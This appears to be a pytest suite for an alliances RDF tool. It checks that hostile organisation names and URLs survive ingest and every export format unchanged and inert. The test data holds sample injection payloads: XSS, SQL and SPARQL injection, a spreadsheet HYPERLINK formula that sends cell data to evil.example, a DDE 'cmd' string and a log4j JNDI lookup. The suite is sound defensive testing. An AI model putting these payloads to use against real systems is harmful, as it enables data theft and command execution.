"""Hostile content: names, evidence and URLs holding HTML, JavaScript, SPARQL, Turtle escapes, spreadsheet formulas,
right-to-left overrides and 10 kB strings pass ingest -> store -> every output intact, and inert.

Issue 6, part 4 (the CLI table, CSV, JSON, every RDF format and re-import, GraphML and GEXF; the maps and the
query page are tested by their authors). The names come in through a CSV member list, which keeps a cell as it is
written, so what comes out can be compared with what went in character for character. Inert means: a CSV cell
never starts with a formula character, RDF files parse back to the same literals, XML files parse without
entities being expanded, and a SPARQL-looking name is data, never query text.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyoxigraph as ox
import pytest
from click.testing import CliRunner

from alliances.cli import EXPORT_FORMATS, cli
from alliances.graph.store import open_store

# fmt: off
HOSTILE = [
    "<script>alert('x')</script> Fonden",
    '"><img src=x onerror=alert(1)> Forening',
    "Robert'); DROP TABLE orgs;-- Forening",
    '" } ; DROP ALL ; INSERT DATA { <urn:a> <urn:b> "c" } # Fonden',
    "?s ?p ?o . FILTER(true) } UNION { Fonden",
    '"""Triple"""@en ^^<http://x.example/> \\" \\u0022 Forening',
    "C:\\temp\\new \\n \\t Fonden",
    "\u202eFonden Evil\u202c Foreningen",
    "عربي Fonden \u05e2\u05d1\u05e8\u05d9\u05ea",
    '=HYPERLINK("https://evil.example/?x="&A1,"Klik")',
    "+45 12 34 56 78 Forening",
    "-2+3 Fonden",
    "@SUM(A1:A9) Fonden",
    "{{7*7}} ${jndi:ldap://x.example/a} %s %n Forening",
    "Fonden " + "æøå x" * 2000,  # 10 kB
]
# fmt: on
ALLIANCE = 'Alliancen <b>mod</b> "Ensomhed" & <script>x</script>'
URLS = ["javascript:alert(1)", 'https://example.org/?q=<script>"x"</script>&a=1', "=cmd|' /C calc'!A0"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def member_list() -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\n")
    writer.writerow(["alliance", "organisation", "relation", "source"])
    for i, name in enumerate(HOSTILE):
        writer.writerow([ALLIANCE, name, "medlem", URLS[i % len(URLS)]])
    return out.getvalue()


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    (root / "members.csv").write_text(member_list(), encoding="utf-8")
    result = CliRunner().invoke(cli, ["--store", str(root / "store"), "ingest", str(root / "members.csv")])
    assert result.exit_code == 0, result.output
    return root / "store"


def run(store: Path, *args: str) -> str:
    result = CliRunner(env={"COLUMNS": "100000"}).invoke(cli, ["--store", str(store), *args])
    assert result.exit_code == 0, result.output
    return result.stdout


def strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return []


def test_reliability_hostile_names_are_stored_as_written(hostile_store: Path) -> None:
    with open_store(hostile_store, read_only=True) as store:
        labels = {label for label, _ in store.entity_labels().values()}
        evidence = {r["e"] for r in store.select("SELECT ?e WHERE { ?a al:evidence ?e }")}
    assert set(HOSTILE) | {ALLIANCE} <= labels
    # the evidence is the member list's row; a row over 5,000 characters is broken at a space (loaders.registry)
    flat = [" ".join(str(e).split()) for e in evidence]
    for name in HOSTILE + URLS:
        assert any(" ".join(name.split()) in e for e in flat), name[:40]


def test_reliability_hostile_json_is_exact(hostile_store: Path) -> None:
    data = json.loads(run(hostile_store, "members", ALLIANCE, "--format", "json"))
    found = strings(data)
    for name in HOSTILE:
        assert name in found, name[:40]
    for url in URLS:
        assert any(url in s for s in found), url


def test_reliability_hostile_csv_is_exact_and_never_a_formula(hostile_store: Path) -> None:
    text = run(hostile_store, "members", ALLIANCE, "--format", "csv")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    for cell in cells:
        assert not cell.startswith(FORMULA) or _is_number(cell), f"a spreadsheet would run {cell[:40]!r}"
    for name in HOSTILE:
        expected = "'" + name if name.startswith(FORMULA) else name
        assert expected in cells, name[:40]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_reliability_hostile_table_shows_names_as_text(hostile_store: Path) -> None:
    table = run(hostile_store, "members", ALLIANCE)
    for name in HOSTILE[:-1]:  # the 10 kB one is cut to fit the column, with an ellipsis
        assert name in table, name[:40]
    assert "\x1b" not in table


@pytest.mark.parametrize("fmt", ["turtle", "ntriples", "trig", "nquads", "json-ld"])
def test_reliability_hostile_rdf_exports_parse_back_and_reimport(hostile_store: Path, tmp_path: Path,
                                                                   fmt: str) -> None:
    suffix = {"turtle": "ttl", "ntriples": "nt", "trig": "trig", "nquads": "nq", "json-ld": "jsonld"}[fmt]
    path = tmp_path / f"export.{suffix}"
    if fmt in EXPORT_FORMATS:  # as a user would
        result = CliRunner().invoke(cli, ["--store", str(hostile_store), "export", "--format", fmt, "-o", str(path)])
        assert result.exit_code == 0, result.output
    else:  # N-Triples: the library's export (the CLI offers Turtle for one merged graph)
        with open_store(hostile_store, read_only=True) as store, path.open("wb") as out:
            store.export(fmt, out)
    ox_format = {"turtle": ox.RdfFormat.TURTLE, "ntriples": ox.RdfFormat.N_TRIPLES, "trig": ox.RdfFormat.TRIG,
                 "nquads": ox.RdfFormat.N_QUADS, "json-ld": ox.RdfFormat.JSON_LD}[fmt]
    quads = list(ox.parse(path=str(path), format=ox_format))
    literals = {q.object.value for q in quads if isinstance(q.object, ox.Literal)}
    assert set(HOSTILE) | {ALLIANCE} <= literals
    assert all(any(url in literal for literal in literals) for url in URLS)

    import rdflib  # what researchers read it with

    rdflib_format = {"turtle": "turtle", "ntriples": "nt", "trig": "trig", "nquads": "nquads", "json-ld": "json-ld"}
    dataset = rdflib.Dataset()
    dataset.parse(path, format=rdflib_format[fmt])
    assert set(HOSTILE) <= {str(o) for _, _, o, _ in dataset.quads() if isinstance(o, rdflib.Literal)}

    with open_store(hostile_store, read_only=True) as original:
        expected = set(original._db) if fmt in ("trig", "nquads", "json-ld") else {q.triple for q in original._db}
    with open_store(tmp_path / "again") as copy:
        copy.import_file(path)
        got = set(copy._db) if fmt in ("trig", "nquads", "json-ld") else {q.triple for q in copy._db}
        assert copy.check_entities() == []
    assert got == expected if fmt != "turtle" and fmt != "ntriples" else expected <= got


def test_reliability_hostile_sparql_names_bind_as_data(hostile_store: Path) -> None:
    """A name that looks like SPARQL is looked up as a literal: no injection, and it is found."""
    from alliances.graph.queries import resolve

    with open_store(hostile_store, read_only=True) as store:
        before = len(store)
        for name in HOSTILE[3:5]:
            hit = resolve(store, name)
            assert hit.label == name
        assert len(store) == before


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_reliability_hostile_network_exports_are_well_formed_xml(hostile_store: Path, tmp_path: Path,
                                                                   fmt: str) -> None:
    pytest.importorskip("alliances.graph.netexport")
    import lxml.etree
    import networkx as nx

    path = tmp_path / f"network.{fmt}"
    result = CliRunner().invoke(cli, ["--store", str(hostile_store), "export", "--format", fmt, "-o", str(path)])
    assert result.exit_code == 0, result.output
    parser = lxml.etree.XMLParser(resolve_entities=False, no_network=True, huge_tree=True)
    root = lxml.etree.parse(str(path), parser).getroot()
    assert not root.xpath("//*[local-name()='script']")  # markup in names is text, not elements
    graph = nx.read_graphml(path) if fmt == "graphml" else nx.read_gexf(path)
    values = {v for _, data in graph.nodes(data=True) for v in data.values() if isinstance(v, str)}
    values |= {str(n) for n in graph.nodes}
    for name in HOSTILE:
        assert name in values, name[:40]
